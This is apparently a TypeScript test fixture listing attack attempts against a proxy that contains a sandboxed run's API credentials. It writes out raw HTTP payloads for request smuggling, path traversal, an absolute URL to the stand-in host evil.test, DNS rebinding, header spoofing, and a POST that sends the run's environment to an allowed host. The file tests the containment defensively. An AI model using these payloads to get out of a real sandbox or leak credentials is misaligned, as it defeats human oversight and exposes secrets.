/** Attacks through the ways out that a run is given; see `way-out.test.ts`. */
import { type Attack, ISOLATED } from './attack.ts';

const post = (path: string, headers = '', body = '{}'): string =>
  `POST ${path} HTTP/1.1\r\nHost: x\r\n${headers}Content-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
export const CALL = '/v1/messages';

/** `says`: raw bytes to the proxy, those after the first when it has answered. */
export type Way = Attack & { says: string[]; answer: RegExp };
const way = (name: string, tries: string, says: string[], answer: RegExp): Way => ({
  ...{ name, tries, says, answer },
  theme: name.startsWith('allowed') || name.startsWith('rebinding') ? 'proxy' : 'theft',
  tiers: ISOLATED,
  told: /./,
});

export const WAYS: readonly Way[] = [
  way(
    'echo-of-the-credential',
    'Has the API repeat what it was asked with.',
    [post(CALL)],
    /^HTTP\/1\.1 200/,
  ),
  way(
    'echo-in-a-header',
    'Has it repeat that in a header.',
    [post(CALL, 'anthropic-test: header\r\n')],
    /^$/,
  ),
  way(
    'redirect-with-credential',
    'Has it send the call elsewhere.',
    [post(CALL, 'anthropic-test: redirect\r\n')],
    /^HTTP\/1\.1 502[\s\S]*redirect/,
  ),
  way(
    'other-calls',
    'Calls what would outlive the run.',
    [post('/v1/files')],
    /^HTTP\/1\.1 403[\s\S]*not-an-api-call/,
  ),
  way(
    'path-tricks',
    'Reaches other calls through the path.',
    [post('/v1/messages/../files')],
    /^HTTP\/1\.1 403[\s\S]*not-an-api-call/,
  ),
  way(
    'absolute-api',
    "Names another server in the API's path.",
    [post('http://evil.test/v1/messages')],
    /^HTTP\/1\.1 403[\s\S]*not-an-api-call/,
  ),
  way(
    'own-credential',
    'Acts as another party with headers of its own.',
    [
      post(
        CALL,
        'Authorization: Bearer mine\r\nX-Api-Key: mine\r\nanthropic-organization-id: mine\r\nCookie: a=mine\r\n',
      ),
    ],
    /^HTTP\/1\.1 200/,
  ),
  way(
    'smuggled-call',
    'Hides a second call behind the first.',
    [
      `POST ${CALL} HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${post('/v1/files')}`,
    ],
    /^HTTP\/1\.1 400/,
  ),
  way(
    'rebinding-name',
    'An allowed name leads to this machine.',
    ['CONNECT rebound.test:443 HTTP/1.1\r\nHost: x\r\n\r\n'],
    /^HTTP\/1\.1 403[\s\S]*forbidden-address/,
  ),
  // The channel itself is there and is said in docs/security.md; what goes through it is what the run knows.
  way(
    'allowed-host-channel',
    'Sends all that it knows to an allowed host.',
    ['CONNECT allowed.test:PORT HTTP/1.1\r\nHost: x\r\n\r\n', post('/take', '', 'ENV')],
    /^HTTP\/1\.1 200/,
  ),
];
